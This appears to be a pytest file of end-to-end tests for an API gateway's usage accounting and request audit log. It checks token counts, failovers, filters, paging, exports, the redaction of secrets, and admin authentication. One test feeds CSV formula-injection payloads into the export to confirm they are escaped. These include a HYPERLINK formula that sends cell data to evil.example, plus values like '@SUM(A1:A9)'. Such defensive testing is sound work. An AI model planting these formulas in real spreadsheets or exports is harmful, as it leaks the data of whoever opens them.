"""Usage accounting and the request audit log, end to end: the official OpenAI client sends
traffic to the gateway over real sockets, and the admin API (and the database rows behind
it) must show exactly that traffic: counts, tokens, failovers, a 4xx with its code, streams
with their time to first token, filters, paging and both exports; and never a secret or,
unless the operator asks for it, a prompt."""
from __future__ import annotations

import csv
import io
import json
import logging
import time

import openai
import orjson
import pytest

from quart_app.admin import requests as requests_admin
from state.account import token_label
from state.models import RequestAuditRow, UsageDayRow, UsageHourRow

ADMIN_KEY = "usage-admin-secret-7f3a9c"
API_KEY = "sk-usage-client-key-5b8e2d41"
# long, JWT-like account tokens: easy to grep for, and masked to their first and last 4
TOK_A = "eyJhbGciOiJIUzI1NiJ9.usageAccountAlpha.sig0123456789abcdef"
TOK_B = "eyJhbGciOiJIUzI1NiJ9.usageAccountBravo.sigfedcba9876543210"
ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
MODEL = "grok-4.20-fast"


async def start(stack, **env: str) -> None:
    await stack.start_gateway(GROK_APP_APP_KEY=ADMIN_KEY, GROK_APP_API_KEY=API_KEY, **env)
    stack.add_account(TOK_A, "basic")
    stack.add_account(TOK_B, "basic")


async def admin_get(stack, path: str) -> tuple[int, bytes]:
    async with stack.http() as http:
        async with http.get("/admin/api" + path, headers=ADMIN) as resp:
            return resp.status, await resp.read()


async def admin_json(stack, path: str) -> dict:
    status, body = await admin_get(stack, path)
    assert status == 200, body
    return orjson.loads(body)


async def db_rows(stack, model) -> list[dict]:
    accounts = stack.gateway.services.accounts
    await accounts.ledger.flush_now()
    return await accounts.thread.run(lambda: [dict(r) for r in model.select().dicts()])


async def chat(client, content: str = "hi", **kw):
    return await client.chat.completions.create(
        model=MODEL, messages=[{"role": "user", "content": content}], **kw)


async def stream_chat(client, content: str = "[[sim tokens=6]]") -> str:
    stream = await client.chat.completions.create(
        model=MODEL, messages=[{"role": "user", "content": content}], stream=True)
    text = []
    async for chunk in stream:
        if chunk.choices and chunk.choices[0].delta.content:
            text.append(chunk.choices[0].delta.content)
    return "".join(text)


async def mixed_traffic(stack) -> dict:
    """Two plain chats, one that fails over once, one stream and one unknown model (400)."""
    client = stack.openai(api_key=API_KEY)
    answers = [await chat(client), await chat(client, "[[sim tokens=4]]")]
    stack.sim.state.inject("empty", times=1)
    answers.append(await chat(client, "after a failover"))
    streamed = await stream_chat(client)
    with pytest.raises(openai.BadRequestError) as info:
        await client.chat.completions.create(model="no-such-model",
                                             messages=[{"role": "user", "content": "x"}])
    return {"answers": answers, "streamed": streamed, "not_found": info.value}


async def test_usage_and_audit_rows_match_the_traffic_sent(stack, caplog):
    caplog.set_level(logging.INFO)
    await start(stack)
    sent = await mixed_traffic(stack)
    rows = (await admin_json(stack, "/requests"))["items"]
    assert len(rows) == 5
    # newest first: the 400, the stream, the failover, the two plain chats
    not_found, streamed, failed_over, second, first = rows
    assert not_found["status"] == 400 and not_found["error_code"] == "model_not_found"
    assert not_found["model"] == "no-such-model" and not_found["account"] == ""
    assert not_found["request_id"] == sent["not_found"].response.headers["x-request-id"]
    for row, answer in ((first, sent["answers"][0]), (second, sent["answers"][1]),
                        (failed_over, sent["answers"][2])):
        assert row["status"] == 200 and row["error_code"] == "" and not row["stream"]
        assert row["model"] == MODEL and row["endpoint"] == "openai.chat"
        assert row["key"] == "app" and row["tier"] == "basic"
        assert row["account"] in (token_label(TOK_A), token_label(TOK_B))
        assert row["prompt_tokens"] == answer.usage.prompt_tokens
        assert row["completion_tokens"] == answer.usage.completion_tokens
        assert row["reasoning_tokens"] == \
            answer.usage.completion_tokens_details.reasoning_tokens
        assert row["bytes_in"] > 0 and row["bytes_out"] > 0
        assert row["ttft_ms"] is None and row["duration_ms"] >= 0
    assert [first["failovers"], second["failovers"], failed_over["failovers"]] == [0, 0, 1]
    assert streamed["stream"] and streamed["status"] == 200
    assert streamed["ttft_ms"] is not None and 0 <= streamed["ttft_ms"] <= streamed["duration_ms"]
    assert streamed["completion_tokens"] > 0

    # the aggregates hold the same facts
    usage = await admin_json(stack, "/usage?group_by=model")
    assert usage["granularity"] == "hour"
    by_model = {}
    for item in usage["series"]:
        by_model.setdefault(item["group"], []).append(item)
    ok = by_model[MODEL]
    assert sum(i["requests"] for i in ok) == 4 and sum(i["failures"] for i in ok) == 0
    assert sum(i["failovers"] for i in ok) == 1 and sum(i["streams"] for i in ok) == 1
    assert sum(i["prompt_tokens"] for i in ok) == \
        sum(r["prompt_tokens"] for r in rows if r["model"] == MODEL)
    assert sum(i["completion_tokens"] for i in ok) == \
        sum(r["completion_tokens"] for r in rows if r["model"] == MODEL)
    assert by_model["no-such-model"][0]["client_errors"] == 1
    totals = usage["totals"]
    assert totals["requests"] == 5 and totals["failures"] == 1
    assert totals["avg_ttft_ms"] is not None
    by_key = await admin_json(stack, "/usage?group_by=key")
    assert {i["group"] for i in by_key["series"]} == {"app"}
    by_tier = await admin_json(stack, "/usage?group_by=tier")
    assert {i["group"]: i["requests"] for i in by_tier["series"]} == {"basic": 4, "": 1}
    # the daily table has the same totals; a range beyond 48 hours reads it
    week = await admin_json(stack, f"/usage?from={int(time.time()) - 7 * 86400}")
    assert week["granularity"] == "day" and week["totals"]["requests"] == 5
    assert (await admin_json(stack, "/usage?key=nobody"))["totals"]["requests"] == 0

    # no secret anywhere: audit rows, aggregates, exports, the logs
    dumps = [orjson.dumps(await db_rows(stack, m)).decode()
             for m in (RequestAuditRow, UsageHourRow, UsageDayRow)]
    for fmt in ("csv", "jsonl"):
        status, body = await admin_get(stack, f"/requests/export?format={fmt}")
        assert status == 200
        dumps.append(body.decode())
    dumps.append(caplog.text)
    for text in dumps:
        for secret in (TOK_A, TOK_B, API_KEY, ADMIN_KEY):
            assert secret not in text


async def test_metrics_has_the_datacenter_shape_and_counts(stack):
    await start(stack)
    await mixed_traffic(stack)
    m = await admin_json(stack, "/metrics")
    assert set(m) == {"tokens", "cache", "request_stats"}
    assert set(m["tokens"]) == {"total", "active", "cooling", "expired", "disabled",
                                "chat_quota", "image_quota", "total_calls"}
    assert m["tokens"]["total"] == 2 and m["tokens"]["image_quota"] == m["tokens"]["chat_quota"] // 2
    assert set(m["cache"]) == {"local_image", "local_video"}
    stats = m["request_stats"]
    assert len(stats["hourly"]) == 24 and len(stats["daily"]) == 7
    assert set(stats["hourly"][0]) == {"hour", "date", "total", "success", "failed"}
    assert set(stats["daily"][0]) == {"date", "total", "success", "failed"}
    now = time.gmtime()
    assert stats["hourly"][-1]["hour"] == time.strftime("%H:00", now)
    assert stats["hourly"][-1]["date"] == time.strftime("%m-%d", now)
    assert stats["hourly"][-1] == {**stats["hourly"][-1], "total": 5, "success": 4, "failed": 1}
    assert stats["daily"][-1]["total"] == 5
    assert stats["models"][0] == {"model": MODEL, "count": 4}
    assert stats["summary"] == {"total": 5, "success": 4, "failed": 1, "success_rate": 80.0}


async def test_audit_filters_paging_and_exports(stack, monkeypatch):
    await start(stack)
    await mixed_traffic(stack)

    async def ids(query: str) -> list[int]:
        page = await admin_json(stack, "/requests" + query)
        return [r["id"] for r in page["items"]]

    everything = await ids("")
    assert len(everything) == 5 and everything == sorted(everything, reverse=True)
    assert len(await ids("?status=2xx")) == 4
    assert len(await ids("?status=4xx")) == 1 and await ids("?status=5xx") == []
    assert await ids("?stream=true") == [everything[1]]
    assert len(await ids("?stream=false")) == 4
    assert len(await ids(f"?model={MODEL}")) == 4
    assert len(await ids("?key=app")) == 5 and await ids("?key=someone-else") == []
    by_account = [await ids(f"?account={token_label(t)}") for t in (TOK_A, TOK_B)]
    assert sum(len(x) for x in by_account) == 4
    future = int(time.time()) + 3600
    assert await ids(f"?from={future}") == [] and len(await ids(f"?to={future}")) == 5
    # server-side paging, newest first
    pages = [await admin_json(stack, f"/requests?page={n}&page_size=2") for n in (1, 2, 3)]
    assert [p["total"] for p in pages] == [5, 5, 5]
    assert [r["id"] for p in pages for r in p["items"]] == everything
    # bad input is a 400 naming the parameter
    for bad, param in (("status=2xy", "status"), ("page_size=0", "page_size"),
                       (f"from={future}&to=1", "from"), ("stream=maybe", "stream")):
        status, body = await admin_get(stack, "/requests?" + bad)
        assert status == 400 and orjson.loads(body)["error"]["param"] == param, body

    # exports: the same filters, read a batch at a time (a batch of 2 here)
    monkeypatch.setattr(requests_admin, "EXPORT_BATCH", 2)
    status, body = await admin_get(stack, "/requests/export?format=csv")
    assert status == 200
    table = list(csv.DictReader(io.StringIO(body.decode())))
    assert [int(r["id"]) for r in table] == everything
    assert table[0]["status"] == "400" and table[0]["error_code"] == "model_not_found"
    status, body = await admin_get(stack, "/requests/export?format=jsonl&status=2xx")
    lines = [json.loads(line) for line in body.decode().splitlines()]
    assert [r["id"] for r in lines] == everything[1:]
    assert all(r["status"] == 200 for r in lines)
    status, body = await admin_get(stack, f"/requests/export?format=csv&from={future}")
    assert status == 200 and body.decode().strip().split(",")[0] == "id"  # header only
    status, _ = await admin_get(stack, "/requests/export?format=xml")
    assert status == 400


PROMPT_MARK = "violet-heron-lantern-4471"


async def test_prompt_and_answer_are_stored_only_with_store_content(stack):
    await start(stack)
    client = stack.openai(api_key=API_KEY)
    await chat(client, f"tell me about {PROMPT_MARK}")
    await stream_chat(client, f"[[sim tokens=3]] {PROMPT_MARK}")
    rows = await db_rows(stack, RequestAuditRow)
    assert len(rows) == 2
    assert PROMPT_MARK not in orjson.dumps(rows).decode()
    assert all(r["prompt"] is None and r["answer"] is None for r in rows)

    await stack.gateway.stop()
    await stack.start_gateway(GROK_AUDIT_STORE_CONTENT="true")
    client = stack.openai(api_key=API_KEY)
    answer = await chat(client, f"tell me about {PROMPT_MARK}")
    streamed = await stream_chat(client, f"[[sim tokens=3]] {PROMPT_MARK}")
    rows = (await admin_json(stack, "/requests?page_size=2"))["items"]
    assert PROMPT_MARK in rows[0]["prompt"] and PROMPT_MARK in rows[1]["prompt"]
    assert rows[0]["answer"] == streamed
    assert rows[1]["answer"] == answer.choices[0].message.content

    # cut to audit.content_max_chars
    await stack.gateway.stop()
    await stack.start_gateway(GROK_AUDIT_STORE_CONTENT="true", GROK_AUDIT_CONTENT_MAX_CHARS="8")
    await chat(stack.openai(api_key=API_KEY), f"tell me about {PROMPT_MARK}")
    row = (await admin_json(stack, "/requests?page_size=1"))["items"][0]
    assert len(row["prompt"]) == 8 and len(row["answer"]) <= 8


async def test_the_usage_routes_need_the_admin_secret(stack):
    await start(stack)
    async with stack.http() as http:
        for path in ("/metrics", "/usage", "/requests", "/requests/export"):
            async with http.get("/admin/api" + path) as resp:
                assert resp.status == 401, path


WRONG_KEY = "sk-not-a-key-of-this-gateway-9d2c71"


async def test_requests_refused_for_their_key_or_body_are_in_the_audit(stack):
    """A missing or unknown key (401) and a malformed body (400) never reach the chain's
    job, yet the audit shows them as 4xx: the refused key as `none` (its value is never
    kept), the malformed body under the key that sent it."""
    await start(stack)
    body = {"model": MODEL, "messages": [{"role": "user", "content": "hi"}]}
    async with stack.http() as http:
        async with http.post("/v1/chat/completions", json=body) as resp:
            assert resp.status == 401
        async with http.post("/v1/chat/completions", json=body,
                             headers={"Authorization": f"Bearer {WRONG_KEY}"}) as resp:
            assert resp.status == 401
        async with http.post("/v1/chat/completions", json={"model": MODEL, "messages": "x"},
                             headers={"Authorization": f"Bearer {API_KEY}"}) as resp:
            assert resp.status == 400
    await chat(stack.openai(api_key=API_KEY))  # and one that is served

    page = await admin_json(stack, "/requests?status=4xx")
    rows = {r["error_code"]: r for r in page["items"]}
    assert page["total"] == 3 and set(rows) >= {"missing_api_key", "invalid_api_key"}
    for code in ("missing_api_key", "invalid_api_key"):
        assert rows[code]["status"] == 401 and rows[code]["key"] == "none"
        assert rows[code]["key_name"] == "" and rows[code]["model"] == ""
    (bad_body,) = [r for r in page["items"] if r["status"] == 400]
    assert bad_body["key"] == "app" and bad_body["model"] == ""
    assert (await admin_json(stack, "/requests?status=2xx"))["total"] == 1
    status, exported = await admin_get(stack, "/requests/export?format=jsonl")
    assert status == 200 and WRONG_KEY not in exported.decode()
    assert WRONG_KEY not in orjson.dumps(await db_rows(stack, RequestAuditRow)).decode()


async def test_the_csv_export_defuses_spreadsheet_formulas(stack):
    """Text a client chose (the model it named, its request id) that a spreadsheet would run
    as a formula is exported behind an apostrophe; JSON Lines keeps the value as it was."""
    await start(stack)
    client = stack.openai(api_key=API_KEY)
    model = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with pytest.raises(openai.BadRequestError):
        await client.chat.completions.create(model=model, messages=[{"role": "user",
                                                                     "content": "x"}])
    for request_id in ("+1+cmd", "-2-2", "@SUM(A1:A9)"):
        await chat(client, extra_headers={"X-Request-Id": request_id})

    status, body = await admin_get(stack, "/requests/export?format=csv")
    assert status == 200
    table = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(table) == 4
    assert {r["request_id"] for r in table} >= {"'+1+cmd", "'-2-2", "'@SUM(A1:A9)"}
    assert [r["model"] for r in table if r["status"] == "400"] == ["'" + model]
    for row in table:
        assert not any(v.startswith(requests_admin.FORMULA_START) for v in row.values()), row
    status, body = await admin_get(stack, "/requests/export?format=jsonl")
    assert model in [json.loads(line)["model"] for line in body.decode().splitlines()]


@pytest.mark.parametrize("value,cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, -5), (200, 200)])
def test_a_csv_cell_is_text_when_a_spreadsheet_would_run_it(value, cell):
    assert requests_admin.csv_cell(value) == cell
